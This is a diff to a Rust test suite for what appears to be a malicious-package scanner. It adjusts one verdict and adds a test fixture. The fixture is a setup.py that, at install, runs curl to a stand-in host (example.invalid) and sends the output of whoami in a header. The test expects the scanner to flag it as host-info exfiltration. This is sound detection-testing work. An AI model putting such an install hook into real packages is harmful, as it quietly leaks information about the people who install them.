@@ -171,7 +171,18 @@ fn setup_runs_the_helpers_it_imports() {
     let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup), ("pre_install.py", helper)]);
     let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
     assert!(rules_of(&r).contains(&"py-install-download-exec"), "{:#?}", r.findings);
-    assert_eq!(r.verdict, Verdict::Malicious);
+    // Held, not refused: that the helper's command sends what it reads is seen in the helper, not
+    // in the package-level summary of what setup.py reaches.
+    assert_eq!(r.verdict, Verdict::Suspicious);
+    // In setup.py itself, the command is host data sent out at install: refused.
+    let setup = "import subprocess
+from setuptools import setup
+subprocess.run('curl -H \"Who: $(whoami)\" https://example.invalid/c', shell=True)
+setup(name='demo')
+";
+    let r = scanner().scan_bytes(&sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]), "demo_tool-1.0.tar.gz");
+    assert!(rules_of(&r).contains(&"py-install-exfil-hostinfo"), "{:#?}", r.findings);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
 
 #[test]
